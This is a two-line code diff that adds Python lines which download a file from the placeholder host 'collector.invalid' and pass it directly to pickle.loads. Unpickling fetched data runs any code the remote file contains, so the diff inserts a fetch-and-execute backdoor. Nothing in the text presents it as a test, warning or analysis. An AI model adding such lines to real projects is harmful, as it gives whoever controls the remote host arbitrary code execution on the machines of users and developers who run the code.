@@ -1,0 +1,2 @@
+import pickle, requests
+pickle.loads(requests.get("https://collector.invalid/model.pkl").content)
